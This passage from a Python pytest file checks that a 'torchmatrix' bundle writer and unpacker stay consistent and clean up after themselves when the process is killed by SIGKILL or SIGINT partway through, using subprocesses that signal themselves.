    refused(tmp_path / "nothing", tmp_path, "nothing: cannot be read: No such file", UsageError)


# kills


_KILL = """
import os, signal, sys
from pathlib import Path
from tests.test_bundle import SAMPLES, stored
from torchmatrix.bundle import read, write
what, folder, limit, number = sys.argv[1], Path(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4])
sample = SAMPLES[sys.argv[5]]

def progress(done, total):
    if done >= limit:
        os.kill(os.getpid(), number)

if what == "write":
    files = stored(folder / "store", sample)
    write.write_bundle(sample.lockfile, sample.record, files, folder / "out" / "cell.tar", progress=progress)
else:
    read.unpack(folder / "good" / "cell.tar", folder / "out" / "folder", progress=progress)
"""


@pytest.mark.parametrize("moved", [0, 1, 3, 4])
def test_killed_while_it_moves_into_a_folder(tmp_path: Path, moved: int, sample: Sample) -> None:
    good, folder = bundle(tmp_path / "good", "cell.tar", sample), tmp_path / "folder"
    folder.mkdir()
    program = (
        "import os, signal, sys\nfrom pathlib import Path\nfrom torchmatrix.bundle import read\n"
        "real, left = Path.rename, int(sys.argv[3])\n"
        "def rename(self, target):\n"
        "    global left\n"
        "    if not left:\n"
        "        os.kill(os.getpid(), signal.SIGKILL)\n"
        "    left -= 1\n"
        "    return real(self, target)\n"
        "Path.rename = rename\n"
        "read.unpack(Path(sys.argv[1]), Path(sys.argv[2]))\n"
    )
    outcome = subprocess.run(
        [sys.executable, "-c", program, str(good), str(folder), str(moved)],
        env={**os.environ, "PYTHONPATH": str(Path(torchmatrix.__file__).parents[1])},
        capture_output=True,
        check=False,
    )
    assert outcome.returncode == -signal.SIGKILL, outcome.stderr
    assert len(left_in(folder)) == moved + 1
    assert "bundle.json" not in left_in(folder), "it comes last"
    if moved:  # what the killed run cannot have put there is somebody's
        (folder / "mine").write_text("precious")
        with pytest.raises(UsageError, match="exists and does not hold this bundle"):
            read.unpack(good, folder)
        assert len(left_in(folder)) == moved + 2
        (folder / "mine").unlink()
    assert read.unpack(good, folder).fresh
    assert left_in(folder) == list(sample.top)


@pytest.mark.parametrize("number", [signal.SIGKILL, signal.SIGINT])
@pytest.mark.parametrize("share", [0.0, 0.5, 1.0])
@pytest.mark.parametrize("what", ["write", "unpack"])
@pytest.mark.parametrize("name", SAMPLES)
def test_killed(tmp_path: Path, what: str, share: float, number: signal.Signals, name: str) -> None:
    good = bundle(tmp_path / "good", "cell.tar", SAMPLES[name])
    out = tmp_path / "out"
    out.mkdir()
    if what == "write":
        (out / "cell.tar").write_bytes(b"the old one")
    limit = int(good.stat().st_size * share)
    path = os.pathsep.join([str(Path(torchmatrix.__file__).parents[1]), str(Path(__file__).parents[1])])
    outcome = subprocess.run(
        [sys.executable, "-c", _KILL, what, str(tmp_path), str(limit), str(int(number)), name],
        env={**os.environ, "PYTHONPATH": path},
        capture_output=True,
        check=False,
    )
    assert outcome.returncode == -number, outcome.stderr
    whole = [file for file in left_in(out) if not file.startswith(".")]
    if number is signal.SIGINT:
        assert left_in(out) == whole, "an interrupted run cleans up after itself"
    if what == "write":
        assert (out / "cell.tar").read_bytes() == b"the old one"
        assert whole == ["cell.tar"]
        return
    assert whole == []
    assert read.unpack(good, out / "folder").fresh
    assert left_in(out) == ["folder"], "what the killed run left is gone"
